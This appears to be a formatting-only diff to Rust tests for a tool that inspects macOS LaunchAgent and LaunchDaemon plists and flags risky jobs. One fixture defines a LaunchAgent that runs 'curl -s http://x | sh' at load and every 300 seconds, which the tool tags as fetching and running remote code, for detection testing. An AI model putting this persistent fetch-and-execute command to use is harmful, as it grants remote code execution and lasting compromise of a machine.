@@ -165,11 +165,10 @@ mod tests {
 
     #[test]
     fn jobs_say_what_they_run_and_when() {
-        let agent = job(
-            "<key>Label</key><string>com.x</string><key>ProgramArguments</key><array><string>/bin/sh</string>\
+        let agent =
+            job("<key>Label</key><string>com.x</string><key>ProgramArguments</key><array><string>/bin/sh</string>\
              <string>-c</string><string>curl -s http://x | sh</string></array><key>RunAtLoad</key><true/>\
-             <key>StartInterval</key><integer>300</integer>",
-        );
+             <key>StartInterval</key><integer>300</integer>");
         let daemon = job(
             "<key>Label</key><string>com.y</string><key>Program</key><string>/opt/y</string><key>UserName</key>\
              <string>mia</string><key>StartCalendarInterval</key><array><dict><key>Hour</key><integer>3</integer></dict>\
@@ -183,8 +182,10 @@ mod tests {
         ]);
         assert_eq!(
             told(&tree, "/Library/LaunchAgents/com.x.plist"),
-            ["LaunchAgent com.x | runs /bin/sh -c curl -s http://x | sh | when RunAtLoad, every 300 s | Program /bin/sh \
-              | FetchesAndRuns"]
+            [
+                "LaunchAgent com.x | runs /bin/sh -c curl -s http://x | sh | when RunAtLoad, every 300 s | Program /bin/sh \
+              | FetchesAndRuns"
+            ]
         );
         assert_eq!(
             told(&tree, "/Library/LaunchDaemons/com.y.plist"),
